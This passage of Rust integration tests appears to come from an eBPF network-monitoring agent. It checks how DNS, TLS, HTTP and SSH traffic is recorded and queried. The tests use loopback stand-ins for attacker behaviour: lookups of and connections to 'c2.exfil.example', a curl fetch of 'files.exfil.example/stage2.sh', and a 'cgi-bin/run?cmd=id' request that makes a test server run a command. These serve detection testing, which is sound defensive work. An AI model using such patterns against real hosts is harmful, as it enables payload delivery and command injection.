        HANDSHAKES_WAIT,
        |ev| {
            has(ev, "connect_result", to(late_to))
                && has(ev, "connect_result", |e| to(silent_to)(e) && failed(e))
                && has(ev, "connect_result", to(refused_to))
        },
        |events| {
            format!(
                " (to: late {late_to}, silent {silent_to}, refused {refused_to}){}",
                handshakes_seen(&agent, events, pid)
            )
        },
    );

    // (The listener's filler connected to the same port first, blocking.)
    let in_progress = |e: &Value| e["warden"]["network"]["errno"] == "EINPROGRESS";
    let late_connect = the(&events, "connect", "late", |e| {
        to(late_to)(e) && in_progress(e)
    });
    let late_result = the(&events, "connect_result", "late", to(late_to));
    assert_eq!(late_result["event"]["outcome"], "success", "{late_result}");
    assert_eq!(
        port_of(&late_result["source"]),
        late,
        "this end: {late_result}"
    );
    assert_eq!(late_result["source"]["ip"], "127.0.0.1", "{late_result}");
    // Timed at the handshake's end (its SYN-ACK, as the socket dates it: to the kernel's
    // tick), not at the look that found it ended: the SYN is retransmitted 1 s in, the looks
    // come at 10, 60, 260 and 860 ms, then 1.86 s. 100 ms allows for the actor's wake-up.
    let ended_ns = report["late_ended_ns"].as_i64().expect("late_ended_ns");
    let result_ns = late_result["@timestamp"]
        .as_str()
        .and_then(warden_core::parse_rfc3339_ns)
        .expect("@timestamp");
    assert!(
        (result_ns - ended_ns).abs() < 100_000_000,
        "the result at {result_ns}, the handshake's end at {ended_ns}"
    );
    for (connect, result) in [
        (late_connect, late_result),
        (
            the(&events, "connect", "refused", |e| {
                to(refused_to)(e) && in_progress(e)
            }),
            the(&events, "connect_result", "refused", to(refused_to)),
        ),
    ] {
        assert_result_of(result, connect, &child_entity);
    }
    // The failures: the refusal, and the timeout (the abandoned connect to the same port was
    // closed under way: its end unknown, or its number already another failed socket's).
    for (what, peer) in [("refused", refused_to), ("timed out", silent_to)] {
        let result = the(&events, "connect_result", what, |e| {
            to(peer)(e) && failed(e)
        });
        assert!(result["warden"]["network"]["errno"].is_null(), "{result}");
        assert!(
            result["source"].is_null() || port_of(&result["source"]) == 0,
            "{result}"
        );
    }
    let late_results = events
        .iter()
        .filter(|e| action(e) == "connect_result" && to(late_to)(e))
        .count();
    assert_eq!(late_results, 1, "one result per connect");

    child.child.stdin.take();
    assert!(child.wait().success());
    agent.stop();
    kernel.check();
}

/// Runs `actor handshakes`, and checks that each handshake ended as meant and that the actor
/// got each one's error itself. Returns the actor, its report, pid and entity id.
/// How long the handshake tests wait for the handshakes' results. Twice in CI runs of
/// session 18 one had not come within the usual 10 s (never in local runs, alone or among
/// every agent test, nor beside two busy loops); a longer wait tells a late result from a lost
/// one, and the failure then says what the agent had.
const HANDSHAKES_WAIT: Duration = Duration::from_secs(30);

/// Should a handshake's result never come: the actor's network events as recorded, and the
/// agent's losses.
fn handshakes_seen(agent: &Agent, events: &[Value], pid: u64) -> String {
    let mine: Vec<String> = (events.iter())
        .filter(|e| pid_of(e) == pid && e["event"]["category"][0] == "network")
        .map(|e| format!("{} {} {}", action(e), e["source"], e["destination"]))
        .collect();
    format!(
        "; the actor's network events: {mine:?}; losses: {}",
        agent.status()["lost"]
    )
}

fn run_handshakes_actor() -> (Proc, Value, u64, String) {
    let (child, report) = spawn_actor(&["handshakes"], &[]);
    let pid = u64::from(child.pid());
    let child_entity = entity(child.pid(), start_ticks(child.pid()));
    assert_eq!(report["late_error"], 0, "{report}");
    assert_eq!(report["timed_out_error"], libc::ETIMEDOUT, "{report}");
    assert_eq!(report["refused_error"], libc::ECONNREFUSED, "{report}");
    (child, report, pid, child_entity)
}

/// A `connect_result` repeats its connect: the process (`entity`), the peer, the transport and
/// the descriptor; it comes after it, and names no call (the kernel ended the handshake).
fn assert_result_of(result: &Value, connect: &Value, entity: &str) {
    assert_eq!(entity_of(result), entity, "{result}");
    assert_eq!(result["destination"], connect["destination"], "{result}");
    assert_eq!(result["network"]["transport"], "tcp", "{result}");
    assert_eq!(
        result["warden"]["network"]["fd"],
        connect["warden"]["network"]["fd"]
    );
    assert!(result["warden"]["syscall"].is_null(), "no call: {result}");
    assert!(
        result["@timestamp"].as_str() > connect["@timestamp"].as_str(),
        "the result after its connect: {result} {connect}"
    );
}

/// A port the actor reported under `key`.
fn report_port(report: &Value, key: &str) -> u64 {
    report[key]
        .as_u64()
        .unwrap_or_else(|| panic!("{key}: {report}"))
}

/// io_uring's connects pass no connect(2); with eBPF they are recorded all the same, the one
/// whose success posts no completion (`IOSQE_CQE_SKIP_SUCCESS`) too, as submitted.
#[test]
fn io_uring_connects_are_recorded_with_ebpf() {
    use std::net::TcpListener;
    let test = "io_uring_connects_are_recorded_with_ebpf";
    let Some((_serial, kernel)) = begin(test) else {
        return;
    };
    let mut agent = Agent::start("[network]\nsource = \"ebpf\"\n");
    if !follows_io_uring(test, &mut agent, "network calls from their tracepoints") {
        return;
    }
    let listener = TcpListener::bind(("127.0.0.1", 0)).unwrap();
    let port = listener.local_addr().unwrap().port();
    let (mut child, report) = spawn_actor(&["uring-net"], &[("TCP4", port.to_string())]);
    let accepted: Vec<_> = (0..2).map(|_| listener.accept().unwrap().0).collect();
    let pid = u64::from(child.pid());
    let uring_connect = |e: &Value| {
        pid_of(e) == pid
            && e["warden"]["syscall"] == "io_uring(connect)"
            && port_of(&e["destination"]) == u64::from(port)
    };
    let events = agent.wait_for("the actor's two io_uring connects", |ev| {
        ev.iter()
            .filter(|e| action(e) == "connect" && uring_connect(e))
            .count()
            >= 2
    });
    let connects: Vec<_> = events
        .iter()
        .filter(|e| action(e) == "connect" && uring_connect(e))
        .collect();
    assert_eq!(connects.len(), 2, "{connects:#?}");
    let entity = entity(child.pid(), start_ticks(child.pid()));
    for c in &connects {
        assert_eq!(entity_of(c), entity, "{c}");
        assert_eq!(c["event"]["outcome"], "success", "{c}");
        assert_eq!(c["network"]["transport"], "tcp", "{c}");
    }
    // The plain one completed: its result, and this end as the kernel bound it.
    let plain = connects
        .iter()
        .find(|c| c["source"]["port"] == report["plain"])
        .unwrap_or_else(|| panic!("no connect from port {}: {connects:#?}", report["plain"]));
    assert_eq!(plain["warden"]["syscall_exit"], 0, "{plain}");
    // The quiet one was recorded as submitted: no result (nor this end, not bound yet).
    let quiet = connects
        .iter()
        .find(|c| c["source"]["port"] != report["plain"])
        .unwrap();
    assert!(quiet["warden"]["syscall_exit"].is_null(), "{quiet}");
    drop(accepted);
    child.child.stdin.take();
    assert!(child.wait().success());
    agent.stop();
    kernel.check();
}

/// With `datagrams = "all"`, an unconnected datagram is recorded at both ends, by its call:
/// the sender's `send` names the receiver, the receiver's `receive` names the sender.
#[test]
fn unconnected_datagrams_are_recorded_when_asked() {
    unconnected_datagrams_are_recorded(
        "unconnected_datagrams_are_recorded_when_asked",
        "datagrams = \"all\"\nsource = \"audit\"",
        Some("sendto"),
    );
}

#[test]
fn unconnected_datagrams_are_recorded_with_ebpf() {
    unconnected_datagrams_are_recorded(
        "unconnected_datagrams_are_recorded_with_ebpf",
        "datagrams = true\nsource = \"ebpf\"",
        Some("sendto"),
    );
}

/// By default (`datagrams = "first"`), a UDP socket's first datagram to a peer and the first
/// from one are recorded at both ends too, from the socket layer: no call.
#[test]
fn the_first_datagrams_to_and_from_a_peer_are_recorded_by_default() {
    unconnected_datagrams_are_recorded(
        "the_first_datagrams_to_and_from_a_peer_are_recorded_by_default",
        "",
        None,
    );
}

/// By default (eBPF), a process's DNS lookup is recorded from its packets: the query and the
/// answer as `dns_query` and `dns_answer` events of the process, with the name, the records and
/// the address it resolved to, in the JSON, the text and SQL; and the connection it then makes
/// to that address carries the name.
#[test]
fn dns_lookups_are_recorded_with_their_answers() {
    let Some((_serial, kernel)) = begin("dns_lookups_are_recorded_with_their_answers") else {
        return;
    };
    let mut agent = Agent::start("");
    let status = agent.status();
    let ebpf = status_source(&status, "ebpf").expect("the ebpf source");
    let detail = ebpf["detail"].as_str().unwrap();
    assert!(detail.contains("DNS queries and answers"), "{detail}");
    // A resolver of our own, on port 53 of a loopback address nothing else uses.
    let resolver = std::net::UdpSocket::bind(("127.53.0.2", 53)).expect("127.53.0.2:53");
    resolver
        .set_read_timeout(Some(std::time::Duration::from_secs(10)))
        .unwrap();
    let serving = std::thread::spawn(move || {
        let mut buf = [0u8; 1500];
        let (n, from) = resolver.recv_from(&mut buf).unwrap();
        let given = dns::Given::Address(std::net::Ipv4Addr::LOCALHOST);
        let answer = dns::answer(&buf[..n], &given).unwrap();
        resolver.send_to(&answer, from).unwrap();
    });
    let c2 = std::net::TcpListener::bind(("127.0.0.1", 0)).unwrap();
    let (mut actor, report) = spawn_actor(
        &["lookup", "c2.exfil.example"],
        &[
            ("DNS", "127.53.0.2:53".into()),
            ("CONNECT", c2.local_addr().unwrap().port().to_string()),
        ],
    );
    serving.join().unwrap();
    let _accepted = c2.accept().unwrap();
    assert_eq!(report["answers"], 1, "{report}");
    let pid = u64::from(actor.pid());
    let events = agent.wait_for("the lookup's query and answer", |ev| {
        has(ev, "dns_query", |e| pid_of(e) == pid)
            && has(ev, "dns_answer", |e| pid_of(e) == pid)
            && has(ev, "connect", |e| {
                pid_of(e) == pid && e["network"]["transport"] == "tcp"
            })
    });
    let query = the(&events, "dns_query", "the query", |e| pid_of(e) == pid);
    assert_eq!(
        query["dns"]["question"]["name"], "c2.exfil.example",
        "{query}"
    );
    assert_eq!(query["dns"]["question"]["type"], "A", "{query}");
    assert_eq!(query["dns"]["type"], "query", "{query}");
    assert_eq!(query["destination"]["ip"], "127.53.0.2", "{query}");
    assert_eq!(query["destination"]["port"], 53, "{query}");
    assert_eq!(query["source"]["port"], report["port"], "{query}");
    assert_eq!(query["network"]["transport"], "udp", "{query}");
    let answer = the(&events, "dns_answer", "the answer", |e| pid_of(e) == pid);
    assert_eq!(answer["dns"]["response_code"], "NOERROR", "{answer}");
    assert_eq!(answer["dns"]["resolved_ip"][0], "127.0.0.1", "{answer}");
    assert_eq!(answer["dns"]["answers"][0]["ttl"], 60, "{answer}");
    assert_eq!(answer["dns"]["id"], query["dns"]["id"], "one exchange");
    assert_eq!(answer["source"]["ip"], "127.53.0.2", "{answer}");
    assert_eq!(entity_of(answer), entity_of(query), "the asker's");
    let connect = the(&events, "connect", "the connection", |e| {
        pid_of(e) == pid && e["network"]["transport"] == "tcp"
    });
    assert_eq!(
        connect["destination"]["domain"], "c2.exfil.example",
        "{connect}"
    );
    assert_eq!(
        connect["destination"]["port"],
        c2.local_addr().unwrap().port(),
        "{connect}"
    );
    assert!(query["destination"].get("domain").is_none(), "{query}");
    let text = agent.events_output(&["--pid", &pid.to_string()], "text");
    assert!(
        text.contains("name=c2.exfil.example type=A code=NOERROR resolved=127.0.0.1 records=1"),
        "{text}"
    );
    assert!(text.contains("tcp domain=c2.exfil.example"), "{text}");
    // --domain finds the lookup and the connection by the name, from the store and from the
    // JSON lines written of it.
    let actions = |lines: &str| -> Vec<String> {
        let mut found: Vec<String> = lines
            .lines()
            .map(|l| serde_json::from_str::<Value>(l).unwrap())
            .filter(|e| pid_of(e) == pid)
            .map(|e| e["event"]["action"].as_str().unwrap().to_owned())
            .collect();
        found.sort();
        found
    };
    let named = agent.events_output(&["--domain", "*.EXFIL.example"], "json");
    assert_eq!(
        actions(&named),
        ["connect", "dns_answer", "dns_query"],
        "{named}"
    );
    let every = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(
        every.path(),
        agent.events_output(&["--pid", &pid.to_string()], "json"),
    )
    .unwrap();
    let offline = agent.events_output(
        &["--input", &s(every.path()), "--domain", "c2.exfil.*"],
        "json",
    );
    assert_eq!(actions(&offline), actions(&named), "{offline}");
    assert!(
        agent
            .events_output(
                &["--domain", "*.other.example", "--pid", &pid.to_string()],
                "json"
            )
            .is_empty()
    );
    let rows = agent.query_rows(&format!(
        "SELECT action, dns_question, dns_response_code, dns_resolved_ips, \
         json_extract(dns_answers, '$[0].data') FROM socket_events \
         WHERE pid = {pid} AND action LIKE 'dns_%' ORDER BY action"
    ));
    assert_eq!(
        rows,
        [
            "dns_answer,c2.exfil.example,NOERROR,127.0.0.1,127.0.0.1",
            "dns_query,c2.exfil.example,,,"
        ]
    );
    let rows = agent.query_rows(&format!(
        "SELECT remote_address, remote_domain FROM socket_events \
         WHERE pid = {pid} AND action = 'connect' AND transport = 'tcp'"
    ));
    assert_eq!(rows, ["127.0.0.1,c2.exfil.example"]);
    actor.child.stdin.take();
    assert!(actor.wait().success());
    agent.stop();
    kernel.check();
}

/// What a connection asked for by name, with no DNS lookup seen (curl is told the address):
/// curl's TLS ClientHello (its server name, version, protocols and fingerprints) and its plain
/// HTTP request (method, URL, user agent), each for curl, found by `--class` and `--domain`, in
/// the text, the XML and SQL.
#[test]
fn tls_hellos_and_http_requests_name_what_a_connection_asked_for() {
    use std::io::{Read, Write};
    let Some((_serial, kernel)) =
        begin("tls_hellos_and_http_requests_name_what_a_connection_asked_for")
    else {
        return;
    };
    let mut agent = Agent::start("");
    let status = agent.status();
    let ebpf = status_source(&status, "ebpf").expect("the ebpf source");
    let detail = ebpf["detail"].as_str().unwrap();
    assert!(detail.contains("TLS hellos and HTTP requests"), "{detail}");
    // Servers of our own on loopback: one reads the hello and hangs up (the handshake
    // fails, which is no matter), one answers the request.
    let tls_server = std::net::TcpListener::bind(("127.0.0.1", 0)).unwrap();
    let http_server = std::net::TcpListener::bind(("127.0.0.1", 0)).unwrap();
    let (tls_port, http_port) = (
        tls_server.local_addr().unwrap().port(),
        http_server.local_addr().unwrap().port(),
    );
    let serving = std::thread::spawn(move || {
        let (mut hello, _) = tls_server.accept().unwrap();
        let mut buf = [0u8; 4096];
        let _ = hello.read(&mut buf);
        drop(hello);
        let (mut request, _) = http_server.accept().unwrap();
        let _ = request.read(&mut buf);
        request
            .write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok")
            .unwrap();
    });
    let curl = |url: String, name: &str, port: u16| {
        Command::new("curl")
            .args(["-sk", "--max-time", "10", "--resolve"])
            .arg(format!("{name}:{port}:127.0.0.1"))
            .arg(url)
            .stdin(Stdio::null())
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .expect("curl (scripts/deps installs it)")
    };
    let tls_curl = curl(
        format!("https://c2.exfil.example:{tls_port}/"),
        "c2.exfil.example",
        tls_port,
    );
    let tls_pid = u64::from(tls_curl.id());
    let _ = tls_curl.wait_with_output();
    let http_curl = curl(
        format!("http://files.exfil.example:{http_port}/stage2.sh?k=1"),
        "files.exfil.example",
        http_port,
    );
    let http_pid = u64::from(http_curl.id());
    let fetched = http_curl.wait_with_output().unwrap();
    assert_eq!(fetched.stdout, b"ok");
    serving.join().unwrap();
    let ended =
        |pid: u64, port: u16| move |e: &Value| pid_of(e) == pid && e["destination"]["port"] == port;
    let events = agent.wait_for(
        "curl's hellos, requests and their connections' ends",
        |ev| {
            has(ev, "tls_hello", |e| pid_of(e) == tls_pid)
                && has(ev, "http_request", |e| pid_of(e) == http_pid)
                && has(ev, "close", ended(tls_pid, tls_port))
                && has(ev, "close", ended(http_pid, http_port))
        },
    );
    let hello = the(&events, "tls_hello", "curl's hello", |e| {
        pid_of(e) == tls_pid
    });
    assert!(
        hello["process"]["executable"]
            .as_str()
            .is_some_and(|exe| exe.ends_with("/curl")),
        "{hello}"
    );
    assert_eq!(
        hello["tls"]["client"]["server_name"], "c2.exfil.example",
        "{hello}"
    );
    assert_eq!(
        hello["destination"]["domain"], "c2.exfil.example",
        "{hello}"
    );
    assert_eq!(hello["destination"]["ip"], "127.0.0.1", "{hello}");
    assert_eq!(hello["destination"]["port"], tls_port, "{hello}");
    assert_eq!(hello["network"]["direction"], "egress", "{hello}");
    // curl offers TLS 1.3 and HTTP/1.1 at least, a server name ('d'), over TCP ('t').
    assert_eq!(hello["tls"]["version"], "1.3", "{hello}");
    let alpn = &hello["warden"]["network"]["alpn"];
    assert!(
        alpn.as_array()
            .is_some_and(|offered| offered.iter().any(|p| p == "http/1.1")),
        "{hello}"
    );
    let ja4 = hello["tls"]["client"]["ja4"].as_str().unwrap();
    assert!(ja4.starts_with("t13d") && ja4.len() == 36, "{hello}");
    let ja3 = hello["tls"]["client"]["ja3"].as_str().unwrap();
    assert!(
        ja3.len() == 32 && ja3.bytes().all(|b| b.is_ascii_hexdigit()),
        "{hello}"
    );
    // The connection its connect recorded: the same ends.
    let connect = the(&events, "connect", "curl's TLS connection", |e| {
        pid_of(e) == tls_pid && e["destination"]["port"] == tls_port
    });
    assert_eq!(
        connect["source"]["port"], hello["source"]["port"],
        "{connect}"
    );
    assert_eq!(entity_of(connect), entity_of(hello));
    let request = the(&events, "http_request", "curl's request", |e| {
        pid_of(e) == http_pid
    });
    assert_eq!(request["http"]["request"]["method"], "GET", "{request}");
    let url = format!("http://files.exfil.example:{http_port}/stage2.sh?k=1");
    assert_eq!(request["url"]["full"], url.as_str(), "{request}");
    assert_eq!(request["url"]["domain"], "files.exfil.example", "{request}");
    let agent_name = request["user_agent"]["original"]
        .as_str()
        .unwrap_or_default();
    assert!(agent_name.starts_with("curl/"), "{request}");
    // Each connection's end carries the name it asked for (no lookup named its address).
    for (pid, port, name) in [
        (tls_pid, tls_port, "c2.exfil.example"),
        (http_pid, http_port, "files.exfil.example"),
    ] {
        let end = the(&events, "close", "a connection's end", ended(pid, port));
        assert_eq!(end["destination"]["domain"], name, "{end}");
    }

    let pids = format!("{tls_pid},{http_pid}");
    let text = agent.events_output(&["--pid", &pids, "--class", "tls,http"], "text");
    // The hello, the request, and the web server's answer to it (the name curl asked for on
    // it: the server's end's).
    assert_eq!(text.lines().count(), 3, "{text}");
    assert!(text.contains("sni=c2.exfil.example tls=1.3"), "{text}");
    assert!(
        text.contains("http_response 127.0.0.1:")
            && text.contains(" domain=files.exfil.example 200 \"OK\" length=2 "),
        "{text}"
    );
    assert!(text.contains(&format!("ja4={ja4}")), "{text}");
    assert!(
        text.contains(&format!("GET {url} ua=\"{agent_name}\"")),
        "{text}"
    );
    let xml = agent.events_output(&["--pid", &pids, "--class", "tls,http"], "xml");
    let doc = roxmltree::Document::parse(&xml).unwrap_or_else(|e| panic!("{e}: {xml}"));
    let tls = doc
        .descendants()
        .find(|n| n.has_tag_name("tls"))
        .unwrap_or_else(|| panic!("{xml}"));
    assert_eq!(
        (tls.attribute("server_name"), tls.attribute("ja4")),
        (Some("c2.exfil.example"), Some(ja4))
    );
    let http = doc
        .descendants()
        .find(|n| n.has_tag_name("http"))
        .unwrap_or_else(|| panic!("{xml}"));
    assert_eq!(http.attribute("url"), Some(url.as_str()));
    // --domain finds both by the names they asked for, from the store and from JSON lines.
    let named = agent.events_output(&["--domain", "*.exfil.example", "--pid", &pids], "json");
    let mut actions: Vec<String> = named
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .map(|e| e["event"]["action"].as_str().unwrap().to_owned())
        .collect();
    actions.sort();
    assert_eq!(
        actions,
        [
            "close",
            "close",
            "http_request",
            "http_response",
            "tls_hello"
        ],
        "{named}"
    );
    let every = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(every.path(), agent.events_output(&["--pid", &pids], "json")).unwrap();
    let offline = agent.events_output(
        &["--input", &s(every.path()), "--domain", "c2.exfil.*"],
        "json",
    );
    assert_eq!(
        offline.lines().count(),
        2,
        "the hello and its end: {offline}"
    );
    let rows = agent.query_rows(&format!(
        "SELECT action, tls_server_name, tls_version, ja4, http_method, http_url, \
         http_user_agent LIKE 'curl/%' FROM socket_events \
         WHERE pid IN ({pids}) AND action IN ('tls_hello', 'http_request') ORDER BY action"
    ));
    assert_eq!(
        rows,
        [
            format!("http_request,,,,GET,{url},1"),
            format!("tls_hello,c2.exfil.example,1.3,{ja4},,,"),
        ]
    );
    agent.stop();
    kernel.check();
}

/// What clients asked of a server here, for the server: curl's TLS hello and HTTP request and
/// an ssh client's identification to the actor's server (on a dual-stack socket, taken 300 ms
/// after they came: each paired with its accept), each a `*_received` event of the server's,
/// with the client as the source, the name asked for as this host's, the connection's fd; the
/// command the request made it run is the server's child; ssh's own `ssh_hello`. In the text,
/// `--class http,ssh` and SQL.
#[test]
fn requests_received_name_what_a_client_asked_of_a_server_here() {
    let Some((_serial, kernel)) =
        begin("requests_received_name_what_a_client_asked_of_a_server_here")
    else {
        return;
    };
    let mut agent = Agent::start("");
    let detail = agent.source_detail("ebpf");
    assert!(detail.contains("HTTP requests received"), "{detail}");
    let (mut server, listening) = spawn_actor(&["serve", "3", "300"], &[]);
    let server_pid = u64::from(server.pid());
    let port = port_of(&listening);
    let port_text = port.to_string();
    let name = "www.victim.example";
    let curl = |url: String| {
        let out = Command::new("curl")
            .args(["-sk", "--max-time", "10", "--resolve"])
            .arg(format!("{name}:{port}:127.0.0.1"))
            .arg(&url)
            .stdin(Stdio::null())
            .stderr(Stdio::null())
            .output()
            .expect("curl (scripts/deps installs it)");
        (out, url)
    };
    let (_, _) = curl(format!("https://{name}:{port}/"));
    // The server answers ssh's line with its own, reads ssh's KEXINIT and hangs up.
    let ssh = Command::new("ssh")
        .args([
            "-o",
            "BatchMode=yes",
            "-o",
            "ConnectTimeout=10",
            "-p",
            &port_text,
        ])
        .args(["nobody@127.0.0.1", "true"])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("ssh (scripts/deps installs openssh-client)");
    let ssh_pid = u64::from(ssh.id());
    assert!(!ssh.wait_with_output().unwrap().status.success());
    let (fetched, url) = curl(format!("http://{name}:{port}/cgi-bin/run?cmd=id"));
    assert_eq!(fetched.stdout, b"ok");
    assert!(server.wait().success());
    let events = agent.wait_for("the server's requests and its command", |ev| {
        has(ev, "tls_hello_received", |e| pid_of(e) == server_pid)
            && has(ev, "http_request_received", |e| pid_of(e) == server_pid)
            && has(ev, "ssh_hello_received", |e| pid_of(e) == server_pid)
            && has(ev, "ssh_hello", |e| pid_of(e) == ssh_pid)
            && has(ev, "exec", |e| e["process"]["parent"]["pid"] == server_pid)
            && has(ev, "ssh_server_hello", |e| pid_of(e) == ssh_pid)
            && has(ev, "ssh_server_hello_sent", |e| pid_of(e) == server_pid)
            && has(ev, "http_response", |e| e["source"]["port"] == port)
            && has(ev, "http_response_sent", |e| pid_of(e) == server_pid)
    });
    // ssh's identification, as it sent it and as the server received it.
    let sent = the(&events, "ssh_hello", "ssh's identification", |e| {
        pid_of(e) == ssh_pid
    });
    let ssh_facts = &sent["warden"]["network"]["ssh"];
    let software = ssh_facts["software"].as_str().unwrap_or_default();
    assert!(software.starts_with("OpenSSH_"), "{sent}");
    // Its KEXINIT, sent once the server's line came: the algorithms ssh says it offers.
    let offered = Command::new("ssh")
        .args(["-G", "-p", &port_text, "nobody@127.0.0.1"])
        .stdin(Stdio::null())
        .output()
        .expect("ssh -G");
    let offered = String::from_utf8_lossy(&offered.stdout);
    let setting = |name: &str| {
        offered
            .lines()
            .find_map(|line| line.strip_prefix(name)?.strip_prefix(' '))
            .unwrap_or_else(|| panic!("no {name} in ssh -G: {offered}"))
            .to_owned()
    };
    let algorithms = ssh_facts["hassh_algorithms"].as_str().unwrap_or_default();
    let lists: Vec<&str> = algorithms.split(';').collect();
    assert_eq!(lists.len(), 4, "{sent}");
    assert!(lists[0].starts_with(&setting("kexalgorithms")), "{sent}");
    assert_eq!(lists[1], setting("ciphers"), "{sent}");
    assert_eq!(lists[2], setting("macs"), "{sent}");
    let hassh = ssh_facts["hassh"].as_str().unwrap_or_default();
    assert!(
        hassh.len() == 32 && hassh.bytes().all(|b| b.is_ascii_hexdigit()),
        "{sent}"
    );
    assert_eq!(sent["network"]["protocol"], "ssh", "{sent}");
    assert_eq!(sent["destination"]["port"], port, "{sent}");
    let received_ssh = the(&events, "ssh_hello_received", "ssh's, received", |e| {
        pid_of(e) == server_pid
    });
    assert_eq!(
        received_ssh["warden"]["network"]["ssh"], *ssh_facts,
        "{received_ssh}"
    );
    assert_eq!(
        received_ssh["source"]["port"], sent["source"]["port"],
        "{received_ssh}"
    );
    // The server's line and KEXINIT, as ssh received them and as the server sent them: its
    // software and its HASSHServer, over the lists it sends with (the actor's).
    let server_lists = "curve25519-sha256;aes128-ctr;hmac-sha2-256;none";
    let server_hassh: String = {
        use md5::Digest;
        md5::Md5::digest(server_lists.as_bytes())
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect()
    };
    let answered = the(
        &events,
        "ssh_server_hello",
        "the server's line, to ssh",
        |e| pid_of(e) == ssh_pid,
    );
    let answer = &answered["warden"]["network"]["ssh"];
    assert_eq!(answer["software"], "WardenTest", "{answered}");
    assert_eq!(answer["hassh_algorithms"], server_lists, "{answered}");
    assert_eq!(answer["hassh"], server_hassh.as_str(), "{answered}");
    assert_eq!(answered["network"]["direction"], "ingress", "{answered}");
    assert_eq!(answered["source"]["port"], port, "{answered}");
    assert_eq!(answered["destination"]["port"], sent["source"]["port"]);
    let answered_here = the(&events, "ssh_server_hello_sent", "the server's line", |e| {
        pid_of(e) == server_pid
    });
    assert_eq!(
        answered_here["warden"]["network"]["ssh"], *answer,
        "{answered_here}"
    );
    assert_eq!(answered_here["network"]["direction"], "egress");
    assert_eq!(answered_here["source"]["port"], port, "{answered_here}");
    assert_eq!(
        answered_here["destination"]["port"], sent["source"]["port"],
        "{answered_here}"
    );
    let hello = the(&events, "tls_hello_received", "curl's hello", |e| {
        pid_of(e) == server_pid
    });
    assert_eq!(hello["network"]["direction"], "ingress", "{hello}");
    assert_eq!(hello["tls"]["client"]["server_name"], name, "{hello}");
    assert_eq!(hello["destination"]["domain"], name, "{hello}");
    assert_eq!(hello["destination"]["port"], port, "{hello}");
    assert_eq!(hello["source"]["ip"], "127.0.0.1", "{hello}");
    let ja4 = hello["tls"]["client"]["ja4"].as_str().unwrap();
    assert!(ja4.starts_with("t13d") && ja4.len() == 36, "{hello}");
    let request = the(&events, "http_request_received", "curl's request", |e| {
        pid_of(e) == server_pid
    });
    assert_eq!(request["http"]["request"]["method"], "GET", "{request}");
    assert_eq!(request["url"]["full"], url.as_str(), "{request}");
    assert!(
        request["user_agent"]["original"]
            .as_str()
            .is_some_and(|agent| agent.starts_with("curl/")),
        "{request}"
    );
    assert!(request["source"].get("domain").is_none(), "{request}");
    // Each the connection its accept took: the same client, the fd the accept returned.
    for received in [hello, request] {
        let client_port = received["source"]["port"].clone();
        let accept = the(&events, "accept", "the server's accept", |e| {
            pid_of(e) == server_pid && e["source"]["port"] == client_port
        });
        assert_eq!(
            received["warden"]["network"]["fd"], accept["warden"]["syscall_exit"],
            "{received} {accept}"
        );
        assert_eq!(entity_of(received), entity_of(accept));
    }
    // What the request made the server run is the server's child.
    let command = the(&events, "exec", "the server's command", |e| {
        e["process"]["parent"]["pid"] == server_pid
    });
    assert_eq!(
        command["process"]["parent"]["entity_id"],
        entity_of(request),
        "{command}"
    );

    // The server's answer to the request, as curl received it and as the server sent it.
    let response = the(
        &events,
        "http_response",
        "the server's answer, to curl",
        |e| e["source"]["port"] == port,
    );
    assert_eq!(
        response["http"]["response"]["status_code"], 200,
        "{response}"
    );
    assert_eq!(
        response["http"]["response"]["body"]["bytes"], 2,
        "{response}"
    );
    assert_eq!(response["http"]["version"], "1.1", "{response}");
    assert_eq!(response["network"]["protocol"], "http", "{response}");
    assert_eq!(response["process"]["executable"], "/usr/bin/curl");
    assert_eq!(response["destination"]["port"], request["source"]["port"]);
    // The server curl asked for by name, as its connection carries it.
    assert_eq!(response["source"]["domain"], name, "{response}");
    let response_here = the(&events, "http_response_sent", "the server's answer", |e| {
        pid_of(e) == server_pid
    });
    assert_eq!(response_here["http"], response["http"], "{response_here}");
    assert_eq!(
        response_here["destination"]["port"], request["source"]["port"],
        "{response_here}"
    );

    let pid_text = server_pid.to_string();
    let text = agent.events_output(&["--pid", &pid_text, "--class", "http,ssh"], "text");
    assert_eq!(text.lines().count(), 4, "{text}");
    assert!(text.contains(&format!("GET {url}")), "{text}");
    assert!(text.contains(" 200 \"OK\" length=2 "), "{text}");
    assert!(
        text.contains(&format!("ssh=\"SSH-2.0-WardenTest\" hassh={server_hassh}")),
        "{text}"
    );
    let identification = ssh_facts["identification"].as_str().unwrap();
    assert!(
        text.contains(&format!("ssh={identification:?} hassh={hassh}")),
        "{text}"
    );
    let rows = agent.query_rows(&format!(
        "SELECT action, direction, tls_server_name, http_url, ssh_software, hassh, \
         local_port = {port_text}, remote_address, remote_domain IS NULL FROM socket_events \
         WHERE pid = {server_pid} AND action LIKE '%_received' ORDER BY action"
    ));
    assert_eq!(
        rows,
        [
            format!("http_request_received,ingress,,{url},,,1,127.0.0.1,1"),
            format!("ssh_hello_received,ingress,,,{software},{hassh},1,127.0.0.1,1"),
            format!("tls_hello_received,ingress,{name},,,,1,127.0.0.1,1"),
        ]
    );
    let rows = agent.query_rows(&format!(
        "SELECT action, direction, http_status, http_content_length, ssh_software, hassh \
         FROM socket_events WHERE pid = {server_pid} AND action LIKE '%_sent' ORDER BY action"
    ));
    assert_eq!(
        rows,
        [
            "http_response_sent,egress,200,2,,".to_string(),
            format!("ssh_server_hello_sent,egress,,,WardenTest,{server_hassh}"),
        ]
    );
    agent.stop();
    kernel.check();
}

/// A TLS server's answer is an event both ways: the ServerHello `openssl s_server` sent, for
/// it, and as curl received it, for curl: the version, cipher suite and protocol the server
/// chose (curl asks for one suite of TLS 1.2 and one of TLS 1.3, so the choice is known), and
/// one JA3S over the bytes both sides saw.
#[test]
fn tls_server_hellos_are_recorded_both_ways() {
    use std::io::{BufRead, BufReader};
    let Some((_serial, kernel)) = begin("tls_server_hellos_are_recorded_both_ways") else {
        return;
    };
    let dir = tempfile::tempdir().unwrap();
    let (key, cert) = (dir.path().join("key.pem"), dir.path().join("cert.pem"));
    // An ECDSA certificate: the TLS 1.2 suite asked for below signs with it.
    let made = Command::new("openssl")
